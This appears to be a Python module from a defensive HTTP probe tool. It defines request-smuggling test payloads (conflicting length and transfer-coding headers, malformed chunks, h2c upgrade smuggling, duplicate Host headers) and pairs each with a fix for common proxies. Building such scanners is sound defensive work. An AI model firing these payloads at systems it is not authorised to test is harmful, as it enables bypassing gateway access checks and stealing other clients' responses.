"""Attacks by requests whose end servers read differently (request smuggling)."""

from __future__ import annotations

from authotron.probe import judges
from authotron.probe.attack import Attack
from authotron.probe.request import Request

_HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: {host}\r\nX-Probe-Mark: {hidden}\r\n\r\n"
_CHUNKED = b"Transfer-Encoding: chunked"
_ENDED = b"0\r\n\r\n"
_STRICT = {
    "nginx": "update to nginx 1.21.1 or later",
    "apache": "HttpProtocolOptions Strict, and update to Apache 2.4.53 or later",
    "haproxy": "remove option accept-invalid-http-request and option h1-case-adjust",
    "envoy": "http_protocol_options without allow_chunked_length",
}


def _length(body: bytes, value: bytes = b"") -> bytes:
    return b"Content-Length: " + (value or str(len(body)).encode())


def _post(label: str, *fields: bytes, body: bytes) -> Request:
    return Request(label, fields, method=b"POST", body=body, lingers=True)


_SHORT = _ENDED + _HIDDEN
_PAIR = b"x" * 5

ATTACKS = (
    Attack(
        name="request-framing",
        leak="The backend gets a request whose end it may read elsewhere than the proxy, so that "
        "a client can hide a request in a body: nothing is asked about that one.",
        remedy="refuse requests with two lengths, other transfer codings than chunked, and line "
        "ends other than CR LF (RFC 9112 section 6.3)",
        by_proxy=_STRICT,
        requests=(
            _post("both lengths", b"Content-Length: 5", _CHUNKED, body=_SHORT),
            _post(
                "both lengths, Transfer-Encoding first",
                _CHUNKED,
                b"Content-Length: 5",
                body=_SHORT,
            ),
            _post("two lengths", b"Content-Length: 5", b"Content-Length: 0", body=_PAIR),
            _post("equal lengths", _length(_PAIR), _length(_PAIR), body=_PAIR),
            _post("two lengths in one Content-Length", _length(_PAIR, b"5, 5"), body=_PAIR),
            _post("signed length", _length(_PAIR, b"+5"), body=_PAIR),
            _post("Content-Length with an underscore", _length(_PAIR, b"0_5"), body=_PAIR),
            _post("two codings", b"Transfer-Encoding: chunked, identity", body=_SHORT),
            _post(
                "two lines of Transfer-Encoding",
                _CHUNKED,
                b"Transfer-Encoding: identity",
                body=_SHORT,
            ),
            _post("unknown coding", b"Transfer-Encoding: xchunked", body=_SHORT),
            _post("coding twice", b"Transfer-Encoding: chunked, chunked", body=_SHORT),
            _post(
                "Transfer-Encoding after a vertical tab",
                b"Transfer-Encoding:\x0bchunked",
                body=_SHORT,
            ),
            _post(
                "space before the colon of a header", b"Transfer-Encoding : chunked", body=_SHORT
            ),
            _post("folded coding", b"Transfer-Encoding:\r\n chunked", body=_SHORT),
            _post("quoted coding", b'Transfer-Encoding: "chunked"', body=_SHORT),
            _post("bare LF", b"X-Other: a\nContent-Length: 5", body=_PAIR),
            _post("bare CR", b"X-Other: a\rContent-Length: 5", body=_PAIR),
            _post("chunk lines that end in LF", _CHUNKED, body=b"1\nx\n0\n\n" + _HIDDEN),
            _post("chunk size that begins with 0x", _CHUNKED, body=b"0x1\r\nx\r\n" + _SHORT),
            _post("LF in a chunk extension", _CHUNKED, body=b"1;a\nb\r\nx\r\n" + _SHORT),
            _post(
                "chunk size with too many digits",
                _CHUNKED,
                body=b"10000000000000001\r\nx\r\n" + _SHORT,
            ),
            Request("GET request with a body", (_length(_PAIR),), body=_PAIR, lingers=True),
            Request(
                "HTTP/1.0 with Transfer-Encoding",
                (_CHUNKED,),
                version=b"HTTP/1.0",
                method=b"POST",
                body=_SHORT,
                lingers=True,
            ),
        ),
        judge=judges.framing,
    ),
    Attack(
        name="other-protocol",
        leak="The backend gets Upgrade: h2c. If it changes to HTTP/2, the proxy passes on all that "
        "follows, and the gateway is asked about none of it.",
        remedy="pass on Upgrade for WebSocket alone",
        by_proxy={
            "nginx": "map $http_upgrade to websocket or nothing, as the example does",
            "apache": "ProxyPass ... upgrade=websocket, instead of upgrade=ANY",
            "caddy": "request_header -Upgrade, unless the value is websocket",
            "haproxy": "http-request del-header Upgrade unless { req.hdr(upgrade) -i websocket }",
            "traefik": "a middleware headers with customRequestHeaders: {Upgrade: ''} for all "
            "requests but WebSockets",
            "envoy": "upgrade_configs with upgrade_type: websocket alone",
        },
        requests=tuple(
            Request(label, fields, connection=connection)
            for label, fields, connection in (
                (
                    "h2c",
                    (b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
                    b"Connection: Upgrade, HTTP2-Settings",
                ),
                (
                    "h2c, without its settings in Connection",
                    (b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
                    b"Connection: Upgrade",
                ),
                ("h2c behind websocket", (b"Upgrade: websocket, h2c",), b"Connection: Upgrade"),
                (
                    "h2c in a second line",
                    (b"Upgrade: websocket", b"Upgrade: h2c"),
                    b"Connection: Upgrade",
                ),
                (
                    "h2c in a first line",
                    (b"Upgrade: h2c", b"Upgrade: websocket"),
                    b"Connection: Upgrade",
                ),
            )
        ),
        judge=judges.other_protocol,
    ),
    Attack(
        name="hidden-request",
        leak="A request that was hidden in the body of another one reached the backend, or a "
        "client gets the answer to another client's request.",
        remedy="refuse requests whose end is ambiguous, and update the proxy",
        by_proxy=_STRICT,
        requests=(Request("ordinary"),) * 4,
        judge=judges.stranger,
    ),
    Attack(
        name="two-hosts",
        leak="The backend gets two hosts, of which the gateway may have judged the other one.",
        remedy="refuse requests with two hosts, and pass on the path of absolute targets alone",
        by_proxy={"haproxy": "http-request set-uri %[pathq]"},
        requests=(
            Request("absolute form", target=b"http://other.example{path}"),
            Request(
                "absolute target with the same host",
                target=b"http://other.example{path}",
                host=(b"Host: other.example",),
            ),
            Request("two lines", host=(b"Host: {host}", b"Host: other.example")),
            Request(
                "second Host line in lower case", host=(b"Host: {host}", b"host: other.example")
            ),
            Request("folded line", host=(b"Host: {host}\r\n other.example",)),
            Request(
                "space before the colon of a header",
                host=(b"Host: {host}", b"Host : other.example"),
            ),
        ),
        judge=judges.other_authority,
    ),
)
"""The attacks of this module: by the framing of requests."""
